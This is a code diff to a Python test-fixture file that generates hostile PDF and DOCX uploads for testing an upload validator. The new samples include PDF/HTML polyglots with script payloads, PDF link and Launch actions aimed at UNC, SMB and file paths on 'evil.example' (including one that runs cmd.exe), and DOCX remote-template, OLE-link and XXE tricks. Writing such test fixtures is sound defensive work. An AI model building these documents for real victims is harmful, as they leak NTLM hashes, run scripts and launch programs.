@@ -11,7 +11,9 @@ from PIL import Image
 EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
 
 
-def pdf_bytes(configure=None, *, text: str = "Kosten- und Finanzierungsplan") -> bytes:
+def pdf_bytes(
+    configure=None, *, text: str = "Kosten- und Finanzierungsplan", **save_options
+) -> bytes:
     """A small real PDF with one page of text; `configure(pdf)` may add (hostile) objects."""
     pdf = pikepdf.new()
     pdf.add_blank_page(page_size=(595, 842))
@@ -26,7 +28,7 @@ def pdf_bytes(configure=None, *, text: str = "Kosten- und Finanzierungsplan") ->
     if configure is not None:
         configure(pdf)
     out = io.BytesIO()
-    pdf.save(out)
+    pdf.save(out, **save_options)
     return out.getvalue()
 
 
@@ -194,6 +196,99 @@ def pdf_html_polyglot() -> bytes:
     return header + b"\n%<html><body><script>alert(document.cookie)</script></body></html>\n" + rest
 
 
+def pdf_with_markup_at(offset: int, markup: bytes) -> bytes:
+    """HTML hidden after the first kilobyte: a PDF comment padded to `offset`, then the markup."""
+    pdf = pdf_bytes()
+    header, rest = pdf.split(b"\n", 1)
+    padding = b"%" + b"x" * max(offset - len(header) - 3, 0) + b"\n"
+    return header + b"\n" + padding + b"%" + markup + b"\n" + rest
+
+
+def pdf_with_markup_appended(markup: bytes) -> bytes:
+    """Markup after %%EOF: PDF readers ignore it, a browser sniffing the whole file does not."""
+    return pdf_bytes() + b"\n" + markup + b"\n"
+
+
+def pdf_with_markup_in_stream(markup: bytes) -> bytes:
+    """Markup in an uncompressed content stream (a real object, not a comment)."""
+
+    def configure(pdf):
+        page = pdf.pages[0]
+        page.obj.Contents = pdf.make_stream(b"BT /F1 12 Tf 72 770 Td (Plan) Tj ET\n% " + markup)
+
+    return pdf_bytes(configure, compress_streams=False)
+
+
+def _link_annotation(pdf, action: pikepdf.Dictionary) -> None:
+    annotation = pikepdf.Dictionary(
+        Type=pikepdf.Name.Annot,
+        Subtype=pikepdf.Name.Link,
+        Rect=pikepdf.Array([0, 0, 100, 100]),
+        A=action,
+    )
+    pdf.pages[0].obj.Annots = pdf.make_indirect(pikepdf.Array([pdf.make_indirect(annotation)]))
+
+
+def pdf_with_link(action: pikepdf.Dictionary, **save_options) -> bytes:
+    return pdf_bytes(lambda pdf: _link_annotation(pdf, action), **save_options)
+
+
+def pdf_with_gotor_unc() -> bytes:
+    """/GoToR opens another PDF; on a UNC path Windows sends the user's NTLM hash to that host."""
+    return pdf_with_link(
+        pikepdf.Dictionary(
+            S=pikepdf.Name.GoToR,
+            F=pikepdf.String("\\\\evil.example\\share\\plan.pdf"),
+            D=pikepdf.Array([0, pikepdf.Name.Fit]),
+        )
+    )
+
+
+def pdf_with_gotor_url_filespec() -> bytes:
+    """/GoToR whose file is a URL file specification dictionary without /Type."""
+    return pdf_with_link(
+        pikepdf.Dictionary(
+            S=pikepdf.Name.GoToR,
+            F=pikepdf.Dictionary(
+                FS=pikepdf.Name.URL, F=pikepdf.String("file://evil.example/share/plan.pdf")
+            ),
+            D=pikepdf.Array([0, pikepdf.Name.Fit]),
+        )
+    )
+
+
+def pdf_with_uri(target: str) -> bytes:
+    return pdf_with_link(pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String(target)))
+
+
+def pdf_with_launch_in_object_stream() -> bytes:
+    """A /Launch action compressed inside an object stream (PDF 1.5), invisible to a byte scan."""
+    return pdf_with_link(
+        pikepdf.Dictionary(
+            S=pikepdf.Name.Launch,
+            Win=pikepdf.Dictionary(F=pikepdf.String("cmd.exe"), P=pikepdf.String("/c calc")),
+        ),
+        object_stream_mode=pikepdf.ObjectStreamMode.generate,
+    )
+
+
+def pdf_with_launch_in_next_chain() -> bytes:
+    """A harmless /GoTo whose /Next runs a /Launch (actions chain)."""
+    return pdf_with_link(
+        pikepdf.Dictionary(
+            S=pikepdf.Name.GoTo,
+            D=pikepdf.Array([0, pikepdf.Name.Fit]),
+            Next=pikepdf.Dictionary(S=pikepdf.Name.Launch, F=pikepdf.String("\\\\evil\\x.exe")),
+        ),
+        object_stream_mode=pikepdf.ObjectStreamMode.generate,
+    )
+
+
+def pdf_with_web_link() -> bytes:
+    """An ordinary link to a web page: accepted."""
+    return pdf_with_uri("https://integrationskompass.hessen.de/")
+
+
 SVG_SCRIPT = (
     b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
     b"<script>alert(document.domain)</script></svg>"
@@ -254,6 +349,103 @@ def zip_symlink_docx() -> bytes:
     return out.getvalue()
 
 
+def _rels(*relationships: str) -> bytes:
+    return (
+        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
+        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+        + "".join(relationships)
+        + "</Relationships>"
+    ).encode()
+
+
+_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
+
+
+def docx_with_remote_template(target: str = "http://evil.example/vorlage.dotm") -> bytes:
+    """Word loads the template named in settings.xml.rels when it opens the document."""
+    return docx_bytes(
+        extra={
+            "word/settings.xml": b'<w:settings xmlns:w="http://schemas.openxmlformats.org/'
+            b'wordprocessingml/2006/main"><w:attachedTemplate r:id="rId1"/></w:settings>',
+            "word/_rels/settings.xml.rels": _rels(
+                f'<Relationship Id="rId1" Type="{_REL}attachedTemplate" Target="{target}" '
+                'TargetMode="External"/>'
+            ),
+        }
+    )
+
+
+def docx_with_ole_link() -> bytes:
+    """A linked (not embedded) OLE object: Word fetches and updates it from the file server."""
+    return docx_bytes(
+        extra={
+            "word/_rels/document.xml.rels": _rels(
+                f"<Relationship Id='rId7' Type='{_REL}oleObject' "
+                "Target='file:///\\\\evil.example\\share\\tabelle.xlsx!Tabelle1' "
+                "TargetMode = 'External'/>"
+            )
+        }
+    )
+
+
+def docx_with_external_frame() -> bytes:
+    """A frame in webSettings pointing outside (another remote-template trick)."""
+    return docx_bytes(
+        extra={
+            "word/_rels/webSettings.xml.rels": _rels(
+                f'<Relationship Id="rId1" Type="{_REL}frame" Target="https://evil.example/f" '
+                'TargetMode="External"/>'
+            )
+        }
+    )
+
+
+def docx_with_external_in_root_rels() -> bytes:
+    return docx_bytes(
+        extra={
+            "customXml/_rels/item1.xml.rels": _rels(
+                f'<Relationship Id="rId1" Type="{_REL}customXmlProps" '
+                'Target="\\\\evil.example\\share\\p.xml" TargetMode="External"/>'
+            )
+        }
+    )
+
+
+def docx_with_unc_hyperlink() -> bytes:
+    return docx_bytes(
+        extra={
+            "word/_rels/document.xml.rels": _rels(
+                f'<Relationship Id="rId3" Type="{_REL}hyperlink" '
+                'Target="\\\\evil.example\\share" TargetMode="External"/>'
+            )
+        }
+    )
+
+
+def docx_with_entity_in_rels() -> bytes:
+    """A DOCTYPE with entities in a relationships part (entity expansion / XXE): refused."""
+    return docx_bytes(
+        extra={
+            "word/_rels/document.xml.rels": b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY e '
+            b'"External">]><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
+            b'relationships"><Relationship Id="rId1" Type="x" Target="http://evil.example/" '
+            b'TargetMode="&e;"/></Relationships>'
+        }
+    )
+
+
+def docx_with_web_hyperlink() -> bytes:
+    """An ordinary hyperlink to a web page: an external relationship that is accepted."""
+    return docx_bytes(
+        extra={
+            "word/_rels/document.xml.rels": _rels(
+                f'<Relationship Id="rId3" Type="{_REL}hyperlink" '
+                'Target="https://wir-vielfalt.hessen.de/" TargetMode="External"/>'
+            )
+        }
+    )
+
+
 def docx_with_macros() -> bytes:
     return docx_bytes(extra={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0 macro"})
 
@@ -291,6 +483,147 @@ def attacks(max_bytes: int) -> list[Attack]:
         ),
         Attack("pdf-zip-polyglot", "plan.pdf", pdf_zip_polyglot(), "application/pdf", "polyglot"),
         Attack("pdf-html-polyglot", "plan.pdf", pdf_html_polyglot(), "application/pdf", "polyglot"),
+        Attack(
+            "pdf-html-after-first-kb",
+            "plan.pdf",
+            pdf_with_markup_at(2048, b"<html><body><script>alert(1)</script></body></html>"),
+            "application/pdf",
+            "polyglot",
+        ),
+        Attack(
+            "pdf-script-at-100kb",
+            "plan.pdf",
+            pdf_with_markup_at(100 * 1024, b"<script>alert(document.cookie)</script>"),
+            "application/pdf",
+            "polyglot",
+        ),
+        Attack(
+            "pdf-svg-onload-at-900kb",
+            "plan.pdf",
+            pdf_with_markup_at(900 * 1024, b"<svg onload=alert(1)>"),
+            "application/pdf",
+            "polyglot",
+        ),
+        Attack(
+            "pdf-html-after-eof",
+            "plan.pdf",
+            pdf_with_markup_appended(b"<HTML><BODY onload=alert(1)>"),
+            "application/pdf",
+            "polyglot",
+        ),
+        Attack(
+            "pdf-script-in-content-stream",
+            "plan.pdf",
+            pdf_with_markup_in_stream(b"< script>alert(1)</script>"),
+            "application/pdf",
+            "polyglot",
+        ),
+        Attack(
+            "pdf-gotor-unc",
+            "plan.pdf",
+            pdf_with_gotor_unc(),
+            "application/pdf",
+            "pdf_active_content",
+        ),
+        Attack(
+            "pdf-gotor-url-filespec",
+            "plan.pdf",
+            pdf_with_gotor_url_filespec(),
+            "application/pdf",
+            "pdf_active_content",
+        ),
+        Attack(
+            "pdf-uri-unc",
+            "plan.pdf",
+            pdf_with_uri("\\\\evil.example\\share\\x"),
+            "application/pdf",
+            "pdf_active_content",
+        ),
+        Attack(
+            "pdf-uri-unc-forward-slashes",
+            "plan.pdf",
+            pdf_with_uri("//evil.example/share/x"),
+            "application/pdf",
+            "pdf_active_content",
+        ),
+        Attack(
+            "pdf-uri-file",
+            "plan.pdf",
+            pdf_with_uri("file://evil.example/share/x.pdf"),
+            "application/pdf",
+            "pdf_active_content",
+        ),
+        Attack(
+            "pdf-uri-file-uppercase-spaces",
+            "plan.pdf",
+            pdf_with_uri("  FILE:///C:/Windows/System32/calc.exe"),
+            "application/pdf",
+            "pdf_active_content",
+        ),
+        Attack(
+            "pdf-uri-smb",
+            "plan.pdf",
+            pdf_with_uri("smb://evil.example/share"),
+            "application/pdf",
+            "pdf_active_content",
+        ),
+        Attack(
+            "pdf-launch-in-object-stream",
+            "plan.pdf",
+            pdf_with_launch_in_object_stream(),
+            "application/pdf",
+            "pdf_active_content",
+        ),
+        Attack(
+            "pdf-launch-in-next-chain",
+            "plan.pdf",
+            pdf_with_launch_in_next_chain(),
+            "application/pdf",
+            "pdf_active_content",
+        ),
+        Attack(
+            "docx-remote-template",
+            "bericht.docx",
+            docx_with_remote_template(),
+            "",
+            "external_reference",
+        ),
+        Attack(
+            "docx-remote-template-unc",
+            "bericht.docx",
+            docx_with_remote_template("\\\\evil.example\\share\\vorlage.dotm"),
+            "",
+            "external_reference",
+        ),
+        Attack("docx-ole-link", "bericht.docx", docx_with_ole_link(), "", "external_reference"),
+        Attack(
+            "docx-external-frame",
+            "bericht.docx",
+            docx_with_external_frame(),
+            "",
+            "external_reference",
+        ),
+        Attack(
+            "docx-external-customxml",
+            "bericht.docx",
+            docx_with_external_in_root_rels(),
+            "",
+            "external_reference",
+        ),
+        Attack(
+            "docx-unc-hyperlink",
+            "bericht.docx",
+            docx_with_unc_hyperlink(),
+            "",
+            "external_reference",
+        ),
+        Attack(
+            "docx-entity-in-rels",
+            "bericht.docx",
+            docx_with_entity_in_rels(),
+            "",
+            "archive_unsafe",
+        ),
         Attack(
             "pdf-javascript",
             "plan.pdf",
